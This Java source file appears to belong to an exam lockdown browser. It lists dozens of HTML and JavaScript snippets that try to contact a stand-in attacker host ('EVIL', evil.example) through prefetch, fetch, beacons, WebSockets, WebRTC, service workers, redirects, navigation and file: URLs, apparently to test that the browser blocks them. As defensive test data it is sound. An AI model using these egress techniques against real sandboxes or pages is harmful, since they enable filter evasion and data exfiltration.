package io.invigil.shell.browser;

import java.util.List;

/// Ways out of the exam that a page may try, each to a place of its own.
///
/// @param name   what it is, in words
/// @param html   in the exam's page, `EVIL` standing for `host:port`; empty for none
/// @param script run when the page is loaded; empty for none
/// @param page   of the exam's server under `/page-N`, `N` being the row's number; empty for none
record Escape(String name, String html, String script, String page) {
    private static Escape html(String name, String html) {
        return new Escape(name, html, "", "");
    }

    private static Escape script(String name, String script) {
        return new Escape(name, "", script, "");
    }

    /// What can be tried side by side, without leaving the page.
    static final List<Escape> WITHIN = List.of(
            html(
                    "DNS prefetch",
                    "<link rel=dns-prefetch href='http://evil.example:80/'><link rel=dns-prefetch href='//EVIL'>"),
            html("preconnect", "<link rel=preconnect href='http://EVIL'>"),
            html("prefetch", "<link rel=prefetch href='http://EVIL/'>"),
            html("preload", "<link rel=preload as=script href='http://EVIL/'>"),
            html("module preload", "<link rel=modulepreload href='http://EVIL/'>"),
            html(
                    "speculation rules",
                    "<script type=speculationrules>"
                            + "{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://EVIL/\"]}]}</script>"),
            html("style sheet", "<link rel=stylesheet href='http://EVIL/'>"),
            html("CSS @import", "<style>@import url('http://EVIL/');</style>"),
            html("CSS background", "<p style=\"background:url('http://EVIL/')\">x</p>"),
            html(
                    "web font",
                    "<style>@font-face{font-family:evil;src:url('http://EVIL/')}</style>"
                            + "<p style='font-family:evil'>x</p>"),
            html("icon", "<link rel=icon href='http://EVIL/'>"),
            html("script", "<script src='http://EVIL/'></script>"),
            html("image", "<img src='http://EVIL/'>"),
            html("image of the same host, another port", "<img src='http://LOCAL/'>"),
            html("image by https", "<img src='https://EVIL/'>"),
            html("picture set", "<img srcset='http://EVIL/ 1x'>"),
            html("video", "<video src='http://EVIL/' preload=auto></video>"),
            html("object", "<object data='http://EVIL/'></object>"),
            html("embed", "<embed src='http://EVIL/'>"),
            html("iframe", "<iframe src='http://EVIL/'></iframe>"),
            html("iframe, file:", "<iframe src='file:///etc/hostname'></iframe>"),
            html("iframe, data: with an image", "<iframe src=\"data:text/html,<img src='http://EVIL/'>\"></iframe>"),
            html(
                    "iframe, meta refresh",
                    "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=http://EVIL/'>\"></iframe>"),
            html(
                    "iframe, javascript: URL",
                    "<iframe src=\"javascript:fetch('http://EVIL/',{mode:'no-cors'})\"></iframe>"),
            new Escape(
                    "iframe, redirect (302) by the exam's server",
                    "<iframe src='/page-N'></iframe>",
                    "",
                    "->http://EVIL/"),
            new Escape("image, redirect (302) by the exam's server", "<img src='/page-N'>", "", "->http://EVIL/"),
            new Escape(
                    "fetch, redirect (302) by the exam's server",
                    "",
                    "fetch('/page-N',{mode:'no-cors'})",
                    "->http://EVIL/"),
            html(
                    "form POST into a frame",
                    "<iframe name=frameN></iframe>"
                            + "<form id=formN method=post target=frameN action='http://EVIL/'><input name=a value=b></form>"
                            + "<script>document.getElementById('formN').submit()</script>"),
            script("fetch", "fetch('http://EVIL/',{mode:'no-cors'})"),
            script("fetch by https", "fetch('https://EVIL/',{mode:'no-cors'})"),
            script(
                    "fetch that outlives the page",
                    "fetch('http://EVIL/',{mode:'no-cors',method:'POST',body:'x',keepalive:true})"),
            script("XMLHttpRequest", "const x=new XMLHttpRequest();x.open('GET','http://EVIL/');x.send()"),
            script("beacon", "navigator.sendBeacon('http://EVIL/','x')"),
            script("event source", "new EventSource('http://EVIL/')"),
            script("WebSocket ws:", "new WebSocket('ws://EVIL/')"),
            script("WebSocket wss:", "new WebSocket('wss://EVIL/')"),
            script("WebTransport (QUIC)", "new WebTransport('https://EVIL/')"),
            script("dynamic import", "import('http://EVIL/x.js')"),
            script(
                    "worker: fetch",
                    "new Worker(URL.createObjectURL(new Blob([\"fetch('http://EVIL/',{mode:'no-cors'})\"])))"),
            script(
                    "worker: importScripts",
                    "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://EVIL/')\"])))"),
            script("worker: WebSocket", "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://EVIL/')\"])))"),
            new Escape(
                    "service worker: fetch",
                    "",
                    "navigator.serviceWorker.register('/page-N.js',{scope:'/page-N'})",
                    "fetch('http://EVIL/',{mode:'no-cors'});"),
            new Escape(
                    "service worker: importScripts",
                    "",
                    "navigator.serviceWorker.register('/page-N.js',{scope:'/page-N'})",
                    "importScripts('http://EVIL/');"),
            new Escape(
                    "service worker: WebSocket",
                    "",
                    "navigator.serviceWorker.register('/page-N.js',{scope:'/page-N'})",
                    "new WebSocket('ws://EVIL/');"),
            html(
                    "blob: page with an image",
                    "<script>{const f=document.createElement('iframe');"
                            + "f.src=URL.createObjectURL(new Blob([\"<img src='http://EVIL/'>\"],{type:'text/html'}));"
                            + "document.body?document.body.append(f):addEventListener('load',()=>document.body.append(f))}</script>"),
            script("WebRTC: STUN by UDP", "PEER({urls:'stun:EVIL'})"),
            script("WebRTC: TURN by UDP", "PEER({urls:'turn:EVIL?transport=udp',username:'u',credential:'p'})"),
            script("WebRTC: TURN by TCP", "PEER({urls:'turn:EVIL?transport=tcp',username:'u',credential:'p'})"),
            script("WebRTC: TURN by TLS", "PEER({urls:'turns:EVIL?transport=tcp',username:'u',credential:'p'})"),
            script("window.open", "window.open('http://EVIL/')"),
            script("link with target=_blank", "CLICK({href:'http://EVIL/',target:'_blank'})"),
            script("link with ping", "CLICK({href:'#here',ping:'http://EVIL/'})"),
            script("download link", "CLICK({href:'http://EVIL/',download:'x'})"));

    /// What would leave the page, one after the other.
    static final List<Escape> LEAVING = List.of(
            script("navigation", "location.href='http://EVIL/'"),
            script("navigation by https", "location.href='https://EVIL/'"),
            script("navigation by replace", "location.replace('http://EVIL/')"),
            new Escape(
                    "navigation, redirect (302) by the exam's server", "", "location.href='/page-N'", "->http://EVIL/"),
            script(
                    "navigation, data: with a script",
                    "location.href=\"data:text/html,<script>location='http://EVIL/'</scr\"+\"ipt>\""),
            script("navigation, view-source:", "location.href='view-source:http://EVIL/'"),
            script("navigation, file:", "location.href='file:///etc/hostname'"),
            script("navigation, javascript: URL", "location.href=\"javascript:void(location.href='http://EVIL/')\""),
            script(
                    "navigation, meta refresh",
                    "const m=document.createElement('meta');m.httpEquiv='refresh';"
                            + "m.content='0;url=http://EVIL/';document.head.append(m)"),
            script(
                    "navigation, form POST",
                    "const f=document.createElement('form');f.method='post';"
                            + "f.action='http://EVIL/';document.body.append(f);f.submit()"),
            script("navigation, other program (mailto:)", "location.href='mailto:a@evil.example'"));
}
